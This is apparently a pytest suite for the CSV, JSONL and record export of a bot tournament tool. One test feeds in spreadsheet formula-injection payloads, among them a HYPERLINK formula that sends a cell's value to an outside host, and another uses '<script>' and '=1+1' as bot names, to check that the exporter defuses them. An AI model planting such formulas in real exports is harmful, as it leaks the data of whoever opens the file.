"""`tournament export`: games as tables and records for other programs."""

import csv
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from tests.tournament.conftest import Run
from tests.tournament.leagues import League

from happycity import Ending
from happycity.records.record import Json, loads
from happycity.records.replay import replay
from happycity_tournament.cli.addresses import open_sources
from happycity_tournament.report.export import SeatRow
from happycity_tournament.storage.store import Store

BOTS = ("ann", "bob", "cem", "dée")
TABLES = ("csv", "jsonl")


def export(run: Run, source: object, out: Path, file_format: str, *more: str) -> str:
    status, output, errors = run("export", source, "--format", file_format, "--out", out, *more)
    assert status == 0, errors
    assert output == ""
    return errors


def rows_of(path: Path, file_format: str) -> list[Json]:
    """Read a table, in any format, with the columns' types."""
    if file_format == "jsonl":
        return [json.loads(line) for line in path.read_text().splitlines()]
    with path.open(newline="") as file:
        return [{name: typed(name, text) for name, text in row.items()} for row in csv.DictReader(file)]


def typed(name: str, text: str) -> Any:
    if not text:
        return None
    if name in ("bot", "ending", "reason", "metrics"):
        return text.removeprefix("'")  # before what a spreadsheet would compute
    return float(text) if name in ("seconds", "finished_at") else int(text)


@pytest.mark.parametrize("file_format", TABLES)
def test_a_table_has_a_row_for_each_seat(played: Path, tmp_path: Path, run: Run, file_format: str) -> None:
    out = tmp_path / "games"
    assert export(run, played, out, file_format) == f"{out}: 48 games\n"
    rows = rows_of(out, file_format)
    assert len(rows) == 48 * 4
    with open_sources([str(played)]) as (source,):
        games = {game.match_id: game for game, _ in source.games(with_records=False)}
    for row in rows:
        assert tuple(row) == SeatRow._fields
        game = games[row["game"]]
        seat = game.seats[row["seat"]]
        assert (row["tournament"], (row["round"], row["table"], row["rotation"])) == (1, game.position)
        assert (row["bot"], row["points"], row["coins"]) == (game.bots[row["seat"]], seat.points, seat.coins)
        assert (row["place"], row["ending"], row["reason"]) == (seat.place, "finished", None)
        assert (row["inhabitants"], row["hearts"]) == (seat.inhabitants, seat.hearts)
        assert (row["deal_seed"], row["decisions"]) == (game.deal_seed, game.decisions)
        assert (row["seconds"], row["finished_at"]) == (game.seconds, game.finished_at)
        assert row["points"] == row["inhabitants"] * row["hearts"]


def test_exported_records_replay_and_name_the_bots(played: Path, tmp_path: Path, run: Run) -> None:
    out = tmp_path / "games.jsonl"
    export(run, played, out, "records")
    lines = out.read_text().splitlines()
    assert len(lines) == 48
    for line in lines:
        record = loads(line)
        assert set(record["bots"]) == {"random", "greedy", "planner", "random2"}
        replay(record)
    again = tmp_path / "again.jsonl"
    export(run, out, again, "records")
    assert again.read_text() == out.read_text()


def test_one_game_is_exported_by_its_id(played: Path, tmp_path: Path, run: Run) -> None:
    games = json.loads(run("games", played, "--limit", "0", "--json")[1])
    out = tmp_path / "games.jsonl"
    assert export(run, played, out, "records", "--game", "7") == f"{out}: 1 game\n"
    (game,) = json.loads(run("games", out, "--json")[1])
    assert [game["seats"]] == [stored["seats"] for stored in games if stored["game"] == 7]


@pytest.mark.level(1)
def test_games_without_records_are_counted(tmp_path: Path, run: Run) -> None:
    """They have no metrics, and can't be written as records; without games there are no rows."""
    url = League(BOTS, rounds=1, with_records=False).store(tmp_path / "games.sqlite")
    empty = League(BOTS, playing=()).store(tmp_path / "empty.sqlite")
    table, records = tmp_path / "table", tmp_path / "records"
    for file_format in TABLES:
        assert export(run, url, table, file_format).endswith("4 games, 4 without a record\n")
        assert {row["metrics"] for row in rows_of(table, file_format)} == {None}
        export(run, empty, table, file_format)
        assert rows_of(table, file_format) == []
    export(run, url, records, "records")
    assert records.read_text() == ""


def test_the_largest_seed_and_hostile_names_survive(tmp_path: Path, run: Run) -> None:
    """A game of no tournament, a seed of 2^64 - 1, and names with commas and tags are kept as they are."""
    url = League(('a"b,c', "<script>", "=1+1", "dée"), rounds=1).store(tmp_path / "games.sqlite")
    with Store.create(url) as store:
        game = replace(store.games(1)[0], match_id=99, deal_seed=2**64 - 1, tournament_id=None, position=None)
        store.add_games([(game, None)])
    for file_format in TABLES:
        export(run, url, tmp_path / "out", file_format)
        rows = [row for row in rows_of(tmp_path / "out", file_format) if row["game"] == 99]
        assert [row["bot"] for row in rows] == list(game.bots)
        assert {row["deal_seed"] for row in rows} == {2**64 - 1}
        assert {row["tournament"] for row in rows} == {row["round"] for row in rows} == {None}


@pytest.mark.level(2)
def test_a_cell_of_csv_is_no_formula(tmp_path: Path, run: Run) -> None:
    """What a bot says begins with a quote where a spreadsheet would compute it; numbers stay numbers."""
    for number, reason in enumerate(('=HYPERLINK("http://x/?"&A1)', "+1", "-1+1", "@sum", "\t=1", "\r=1")):
        league = League(BOTS, rounds=1, ending=lambda _, bot: Ending.CRASHED, reason=reason)
        export(run, league.store(tmp_path / f"{number}.sqlite"), tmp_path / "out", "csv")
        with (tmp_path / "out").open(newline="") as file:
            rows = list(csv.DictReader(file))
        assert {(row["ending"], row["reason"]) for row in rows} == {("crashed", f"'{reason}")}
        assert all(float(row["hearts"]) < 100 for row in rows)


def test_a_source_is_never_overwritten(played: Path, run: Run, tmp_path: Path) -> None:
    """Nor is a file in a folder of records."""
    inside = tmp_path / "games.jsonl"
    export(run, played, inside, "records")
    status, _, errors = run("export", tmp_path, "--format", "csv", "--out", inside)
    assert (status, "is the source itself" in errors) == (2, True)


@pytest.mark.parametrize("command", [("export", "--format", "csv"), ("report",)])
def test_a_file_that_can_not_be_written_is_refused_at_once(
    played: Path, run: Run, monkeypatch: pytest.MonkeyPatch, command: tuple[str, ...]
) -> None:
    """Reading a large source first would take minutes."""
    monkeypatch.setattr(Store, "whole_result_parts", None)
    for out, problem in {"none/x": "No such file or directory", ".": "Is a directory"}.items():
        status, _, errors = run(command[0], played, *command[1:], "--out", out)
        assert (status, errors) == (2, f"error: --out: {out} can't be written: {problem}\n")


@pytest.mark.level(1)
@pytest.mark.parametrize(
    "command", [("export", "--format", "csv"), ("export", "--format", "records"), ("report",)]
)
def test_a_damaged_record_is_named(tmp_path: Path, run: Run, command: tuple[str, ...]) -> None:
    """It costs one line with the game's number, and leaves the file of an earlier export as it was."""
    config = '"config":{"players":4,"mode":"family","scoring":"product"}'
    moves = f'{config},"moves":[7],"endings":[0,0,0,0],"metrics":[{{"decision":1,"values":{{"a":1}}}}]'
    records = ["{", '{"format":"happycity-record/2"}', f'{{"format":"happycity-record/1",{moves}}}']
    out = tmp_path / "out"
    for number, record in enumerate(records[: 2 if "records" in command else 3]):  # its moves are not read
        url = League(BOTS, rounds=1).store(tmp_path / f"{number}.sqlite")
        with Store.create(url) as store:
            game = replace(store.games(1)[0], match_id=99, position=(9, 0, 0), deal_seed=1)
            store.add_games([(game, record)])
        out.write_text("of an earlier export")
        status, _, errors = run(command[0], url, *command[1:], "--out", out)
        assert (status, errors.count("\n")) == (2, 1)
        assert errors.startswith("error: game 99: malformed record: ")
        assert out.read_text() == "of an earlier export"
        assert not [entry for entry in tmp_path.iterdir() if "partial" in entry.name]
